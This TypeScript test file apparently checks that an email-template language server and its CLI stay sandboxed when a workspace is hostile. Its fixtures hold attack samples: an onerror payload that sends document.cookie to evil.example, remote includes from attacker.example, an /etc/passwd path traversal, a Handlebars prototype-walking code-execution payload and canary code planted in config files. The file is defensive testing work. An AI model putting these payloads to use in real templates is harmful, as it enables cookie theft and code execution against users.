/**
 * Issue 8, part 6: untrusted workspaces and no network. The real, bundled server runs a whole editing
 * session over stdio with test/helpers/sandbox-preload.cjs loaded (`node --require`): every attempt
 * to reach the network, start a process, load native code, evaluate code from a string or require
 * JavaScript from the workspace is recorded and refused. The workspace is hostile on purpose:
 * tracking pixels, remote CSS and scripts, Braze's `connected_content`, AMPscript's HTTPGet, a
 * Handlebars prototype-walking payload and a `mergewise.config.js` that would leave a canary file
 * behind if anything ever ran it. The command line gets the same treatment.
 *
 * vscode-jsonrpc talks over the process's own stdin and stdout: pipes the process was given, which
 * never go through `net.connect` or `Socket#connect`, so the traps do not touch them.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import {
  CodeActionRequest, CompletionRequest, DefinitionRequest, DidChangeWatchedFilesNotification, FileChangeType, HoverRequest,
  InlayHintRequest, ReferencesRequest, RenameRequest, type CompletionList, type Hover,
} from 'vscode-languageserver-protocol/node';
import {
  DOCUMENT_INFO_REQUEST, NEW_RECIPIENT_REQUEST, PREVIEW_REQUEST, QUADRANTS_REQUEST, SET_RECIPIENT_REQUEST, type PreviewResult,
} from '../../protocol/src/requests';
import { LspTestClient, uri } from '../helpers/lsp-client';
import { removeWorkspace, workspace } from '../helpers/workspace';

const ROOT = path.resolve(__dirname, '../..');
const PRELOAD = path.join(__dirname, '../helpers/sandbox-preload.cjs');

interface Trap {
  kind: 'loaded' | 'worker' | 'forbidden';
  what: string;
  detail: string;
  thread: string;
  stack: string;
}

/** Code that, run by anything, leaves the canary file behind. */
const CANARY_CODE = "process.mainModule.require('fs').writeFileSync(process.env.MW_CANARY_FILE, 'ran')";

const HOSTILE_WORKSPACE: Record<string, string> = {
  'mergewise.json': JSON.stringify({
    dialect: 'liquid',
    templates: { 'sendgrid/**': 'sendgrid', 'sfmc/**': 'ampscript', 'hubspot/**': 'hubl', 'mailchimp/**': 'mailchimp' },
    recipients: ['recipients/*.json'],
    fields: {
      'customer.first_name': { type: 'string', source: 'declared', fallback: 'there', aliases: { ampscript: 'FirstName', hubl: 'contact.firstname', mailchimp: 'FNAME' } },
      'customer.website': { type: 'string', source: 'declared' },
      'customer.avatar': { type: 'string', source: 'declared' },
    },
  }, null, 2),
  'recipients/ana.json': JSON.stringify({
    $name: 'Ana', FirstName: 'Ana', FNAME: 'Ana', contact: { firstname: 'Ana' },
    customer: {
      first_name: 'Ana', website: 'https://tracker.example/click?u=ana',
      avatar: '<img src="https://tracker.example/open.gif" onerror="fetch(\'https://evil.example/\' + document.cookie)">',
    },
    'constructor.prototype.polluted': 'yes',
  }),
  'emails/welcome.liquid': [
    'Hi {{ customer.first_name }},',
    '{% connected_content https://attacker.example/api?u={{ customer.first_name }} :save profile %}',
    '{% include "https://attacker.example/partial.liquid" %}{% render "../../../etc/passwd" %}',
    '{{ customer.avatar }}<img src="http://tracker.example/pixel.gif"><link rel="stylesheet" href="https://evil.example/a.css">',
    '<script src="https://evil.example/a.js"></script><a href="javascript:alert(1)">x</a><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '{{ customer.website | default: "https://example.com" }} {{ "constructor" | append: ".constructor" }}',
  ].join('\n'),
  'sendgrid/receipt.html': [
    'Hi {{customer.first_name}}',
    '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}',
    `{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return ${CANARY_CODE.replace(/"/g, '\\"')};"}}{{this.pop}}`,
    '{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}',
    '{{lookup (lookup this "constructor") "constructor"}}',
  ].join('\n'),
  'sfmc/renewal.html': [
    '%%[ SET @page = HTTPGet("https://attacker.example/x") SET @name = AttributeValue("FirstName") ]%%',
    'Hi %%=v(@name)=%% %%=TreatAsContent(HTTPGet("https://attacker.example/y"))=%% %%=ContentBlockByKey("remote")=%%',
    '%%=Redirectto("https://evil.example")=%% <img src="%%=RedirectTo(@page)=%%">',
  ].join('\n'),
  'hubspot/trial.html': '{% include "https://attacker.example/x.html" %}Hi {{ contact.firstname }} {{ request.query_dict }}',
  'mailchimp/welcome.html': 'Hi *|FNAME|* <img src="*|ARCHIVE|*"> *|IF:FNAME|*yes*|END:IF|*',
  'mergewise.config.js': `${CANARY_CODE};\n`,
  'node_modules/mergewise-plugin/index.js': `${CANARY_CODE};\n`,
  'node_modules/mergewise-plugin/package.json': '{"name": "mergewise-plugin", "main": "index.js"}',
  '.mergewiserc.js': `${CANARY_CODE};\n`,
};

function readTraps(log: string): Trap[] {
  if (!fs.existsSync(log)) return [];
  return fs.readFileSync(log, 'utf8').split('\n').filter(Boolean).map((line) => JSON.parse(line) as Trap);
}

function forbidden(traps: Trap[]): string[] {
  return traps.filter((t) => t.kind === 'forbidden').map((t) => `${t.thread}: ${t.what}(${t.detail}) at ${t.stack}`);
}

describe('untrusted workspaces: nothing leaves the process, nothing from the workspace runs', () => {
  let root: string;
  let scratch: string;
  let log: string;
  let canary: string;
  const saved: Record<string, string | undefined> = {};

  before(() => {
    root = workspace(HOSTILE_WORKSPACE);
    scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'mergewise-sandbox-'));
    log = path.join(scratch, 'traps.jsonl');
    canary = path.join(scratch, 'canary');
    // The server inherits the test's environment: these tell the preload where to write, and the canary where to land.
    for (const [name, value] of Object.entries({ MW_TRAP_LOG: log, MW_TRAP_WORKSPACE: fs.realpathSync(root), MW_CANARY_FILE: canary })) {
      saved[name] = process.env[name];
      process.env[name] = value;
    }
  });

  after(() => {
    for (const [name, value] of Object.entries(saved)) {
      if (value === undefined) delete process.env[name];
      else process.env[name] = value;
    }
    removeWorkspace(root);
    fs.rmSync(scratch, { recursive: true, force: true });
  });

  test('package.json declares untrusted workspaces supported, and ships no telemetry', () => {
    const manifest = JSON.parse(fs.readFileSync(path.join(ROOT, 'package.json'), 'utf8'));
    assert.equal(manifest.capabilities?.untrustedWorkspaces?.supported, true);
    assert.deepEqual(manifest.capabilities.untrustedWorkspaces.restrictedConfigurations ?? [], []);
    const dependencies = { ...manifest.dependencies, ...manifest.devDependencies };
    assert.ok(!Object.keys(dependencies).some((name) => /telemetry|applicationinsights|analytics|sentry/i.test(name)), Object.keys(dependencies).join(', '));
    for (const bundle of ['client.js', 'server.js', 'cli.js', 'render-worker.js']) {
      const file = path.join(ROOT, 'dist', bundle);
      if (!fs.existsSync(file)) continue;
      assert.doesNotMatch(fs.readFileSync(file, 'utf8'), /createTelemetryLogger|extension-telemetry|applicationinsights|TelemetryReporter/, `${bundle} holds telemetry`);
    }
  });

  test('a whole editing session over stdio: no network, no process, no workspace code', async () => {
    const client = new LspTestClient(['--require', PRELOAD]);
    try {
      await client.initialize(root);
      const opened: { uri: string; text: string; field: string }[] = [];
      for (const [file, field] of [
        ['emails/welcome.liquid', 'customer.first_name'], ['sendgrid/receipt.html', 'customer.first_name'], ['sfmc/renewal.html', 'FirstName'],
        ['hubspot/trial.html', 'contact.firstname'], ['mailchimp/welcome.html', 'FNAME'],
      ]) {
        const text = HOSTILE_WORKSPACE[file];
        const documentUri = await client.open(path.join(root, file), text, file.endsWith('.liquid') ? 'liquid' : 'html');
        await client.diagnosticsForVersion(documentUri, 1);
        opened.push({ uri: documentUri, text, field });
      }
      for (const { uri: documentUri, text, field } of opened) {
        const offset = text.indexOf(field) + 1;
        const before = text.slice(0, offset);
        const position = { line: before.split('\n').length - 1, character: offset - before.lastIndexOf('\n') - 1 };
        const textDocument = { uri: documentUri };
        const hover = await client.connection.sendRequest(HoverRequest.type, { textDocument, position }) as Hover | null;
        assert.ok(hover, `a hover on ${field} in ${documentUri}`);
        await client.connection.sendRequest(CompletionRequest.type, { textDocument, position }) as CompletionList;
        await client.connection.sendRequest(InlayHintRequest.type, { textDocument, range: { start: { line: 0, character: 0 }, end: { line: 20, character: 0 } } });
        await client.connection.sendRequest(CodeActionRequest.type, { textDocument, range: { start: position, end: position }, context: { diagnostics: [] } });
        await client.connection.sendRequest(DefinitionRequest.type, { textDocument, position });
        await client.connection.sendRequest(ReferencesRequest.type, { textDocument, position, context: { includeDeclaration: true } });
        await client.connection.sendRequest(RenameRequest.type, { textDocument, position, newName: 'customer.given_name' }).catch(() => undefined);
        await client.connection.sendRequest(DOCUMENT_INFO_REQUEST, { uri: documentUri });
        await client.connection.sendRequest(QUADRANTS_REQUEST, { uri: documentUri });
        await client.connection.sendRequest(SET_RECIPIENT_REQUEST, { uri: documentUri, name: 'Ana' });
        const preview = await client.connection.sendRequest(PREVIEW_REQUEST, { uri: documentUri }) as PreviewResult;
        assert.ok(preview.recipients.length === 1 || preview.notice, `a preview of ${documentUri}: ${JSON.stringify(preview).slice(0, 300)}`);
        await client.connection.sendRequest(NEW_RECIPIENT_REQUEST, { uri: documentUri }).catch(() => undefined);
      }

      // Edit mergewise.json in the editor, and tell the server a recipient file changed on disk.
      const schemaText = HOSTILE_WORKSPACE['mergewise.json'];
      const schemaUri = await client.open(path.join(root, 'mergewise.json'), schemaText, 'json');
      const edited = schemaText.replace('"customer.website"', '"customer.homepage": { "type": "string" },\n    "customer.website"');
      await client.change(schemaUri, [{ text: edited }]);
      await client.diagnosticsForVersion(schemaUri, 2);
      await client.connection.sendNotification(DidChangeWatchedFilesNotification.type, {
        changes: [{ uri: uri(path.join(root, 'recipients/ana.json')), type: FileChangeType.Changed }],
      });
      await client.diagnostics(opened[0].uri, (p) => p.version === 1 && p.diagnostics.length > 0);
      await client.connection.sendRequest(PREVIEW_REQUEST, { uri: opened[0].uri });
      assert.equal(client.stderr.trim(), '', 'the server wrote nothing to stderr');
    } finally {
      await client.stop();
    }

    const traps = readTraps(log);
    assert.ok(traps.some((t) => t.kind === 'loaded' && t.thread === 'main'), 'the preload ran in the server');
    assert.deepEqual(forbidden(traps), []);
    const workers = traps.filter((t) => t.kind === 'worker');
    assert.ok(workers.length > 0, 'the previews rendered in a worker');
    assert.ok(traps.some((t) => t.kind === 'loaded' && t.thread.startsWith('worker')), 'the sandbox covered the render worker too');
    for (const worker of workers) {
      assert.ok(worker.detail.includes(path.join(ROOT, 'dist')) || worker.detail.startsWith('file://') && worker.detail.includes('/dist/'),
        `a worker runs the extension's own code, not ${worker.detail}`);
    }
    assert.ok(!fs.existsSync(canary), `something ran workspace code: ${fs.existsSync(canary) ? fs.readFileSync(canary, 'utf8') : ''}`);
  });

  test('the command line, check and preview: no network, no process, no workspace code', () => {
    const cliLog = path.join(scratch, 'cli-traps.jsonl');
    const env = { ...process.env, MW_TRAP_LOG: cliLog };
    const run = (args: string[]) => spawnSync(process.execPath, ['--require', PRELOAD, path.join(ROOT, 'dist/cli.js'), ...args], {
      cwd: root, encoding: 'utf8', env, timeout: 60_000,
    });
    const check = run(['check', '--format', 'json', '.']);
    assert.ok(check.status === 0 || check.status === 1, `check exited ${check.status}: ${check.stderr}`);
    assert.ok(JSON.parse(check.stdout).files.length >= 5);
    const out = path.join(scratch, 'previews');
    for (const template of ['emails/welcome.liquid', 'sendgrid/receipt.html', 'sfmc/renewal.html', 'hubspot/trial.html', 'mailchimp/welcome.html']) {
      const preview = run(['preview', template, '--recipient', 'all', '--out', out]);
      assert.ok(preview.status !== null && preview.status <= 2 && !/TypeError|RangeError|sandbox:/.test(preview.stderr), `preview ${template}: ${preview.status} ${preview.stderr}`);
    }
    const traps = readTraps(cliLog);
    assert.ok(traps.some((t) => t.kind === 'loaded'), 'the preload ran in the command line');
    assert.deepEqual(forbidden(traps), []);
    assert.ok(!fs.existsSync(canary), 'something ran workspace code');
  });
});
